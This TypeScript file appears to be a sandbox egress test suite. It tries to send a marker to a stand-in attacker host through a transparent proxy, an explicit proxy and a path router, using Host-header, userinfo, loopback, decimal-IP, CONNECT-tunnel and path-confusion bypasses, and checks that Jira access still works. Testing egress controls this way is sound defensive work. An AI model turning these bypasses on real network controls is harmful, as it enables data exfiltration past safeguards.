import type { Attempt, Brief, InsideRow } from '../brief.js'
import { attempt, inTurn, type Outcome } from './lib/attempt.mjs'
import { exchange, get, openTcp, openTls, openTunnel } from './lib/http.mjs'
import { askJira } from './lib/twins.mjs'

export const rows: Readonly<Record<string, InsideRow>> = {
  'exfil-transparent': { attack: throughTransparentDoor, twin: askJira },
  'exfil-explicit': { attack: throughExplicitProxy, twin: askThroughProxy },
  'exfil-routes': { attack: throughRoutes, twin: askThroughRoutes },
}

async function throughTransparentDoor({ doors, names, attacker }: Brief, marker: string): Promise<Attempt[]> {
  const hosts = [
    names.attacker,
    `${names.attacker}.`,
    `${names.attacker}:${attacker.port}`,
    `${names.jira}.${names.attacker}`,
    `${names.jira}@${names.attacker}`,
    `127.0.0.1:${attacker.port}`,
    `[::1]:${attacker.port}`,
    '2130706433',
  ]
  const plain = async (host: string): Promise<Outcome> =>
    exchange(await openTcp(doors.http), post(host, `/?q=${marker}`, marker))
  const secured = async (host: string): Promise<Outcome> => {
    const name = host.replace(/:\d+$/, '')
    return exchange(await openTls(await openTcp(doors.https), name), post(host, `/?q=${marker}`, marker))
  }
  return inTurn([
    ...hosts.map((host) => () => attempt(`http, Host: ${host}`, () => plain(host))),
    ...hosts.map((host) => () => attempt(`https to ${host}`, () => secured(host))),
  ])
}

async function throughExplicitProxy({ doors, names, attacker }: Brief, marker: string): Promise<Attempt[]> {
  const absolute = [
    `http://${names.attacker}`,
    `https://${names.attacker}`,
    `http://${names.attacker}:${attacker.port}`,
    `http://127.0.0.1:${attacker.port}`,
    `http://${names.jira}@${names.attacker}`,
    `ftp://${names.attacker}`,
  ]
  const targets = [
    `${names.attacker}:443`,
    `${names.attacker}:${attacker.port}`,
    `127.0.0.1:${attacker.port}`,
    `[::1]:${attacker.port}`,
    `${names.jira}:22`,
    `${names.jira}@${names.attacker}:443`,
  ]
  return inTurn([
    ...absolute.map((base) => () => {
      const host = base.replace(/^[a-z]+:\/\//, '')
      return attempt(`GET ${base}`, async () =>
        exchange(await openTcp(doors.proxy), post(host, `${base}/?q=${marker}`, marker)),
      )
    }),
    ...targets.map(
      (target) => () =>
        attempt(`CONNECT ${target}`, async () =>
          exchange(await openTunnel(doors.proxy, target), post(target, `/?q=${marker}`, marker)),
        ),
    ),
  ])
}

async function throughRoutes({ doors, names }: Brief, marker: string): Promise<Attempt[]> {
  const requests: [path: string, ...extra: string[]][] = [
    ['/attacker/'],
    [`/${names.attacker}/`],
    [`/https://${names.attacker}/`],
    [`//${names.attacker}/`],
    [`/jira@${names.attacker}/rest/api/2/myself`],
    [`/jira/rest/api/2/myself`, `X-Sandbox-Target: https://${names.attacker}`],
    [`http://${names.attacker}/`],
  ]
  return inTurn(
    requests.map(
      ([path, ...extra]) =>
        () =>
          attempt([`GET ${path}`, ...extra].join(', '), async () =>
            exchange(await openTcp(doors.routes), get('egress:9199', `${path}?q=${marker}`, extra)),
          ),
    ),
  )
}

async function askThroughProxy({ doors, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('CONNECT to Jira', async () => {
      const tunnel = await openTunnel(doors.proxy, `${names.jira}:443`)
      return exchange(await openTls(tunnel, names.jira), get(names.jira, `/rest/api/2/myself?twin=${marker}`))
    }),
  ]
}

async function askThroughRoutes({ doors }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('GET /jira/rest/api/2/myself', async () =>
      exchange(await openTcp(doors.routes), get('egress:9199', `/jira/rest/api/2/myself?twin=${marker}`)),
    ),
  ]
}

function post(host: string, target: string, body: string): string {
  const head = [
    `POST ${target} HTTP/1.1`,
    `Host: ${host}`,
    'Connection: close',
    `Content-Length: ${body.length}`,
  ]
  return [...head, '', body].join('\r\n')
}
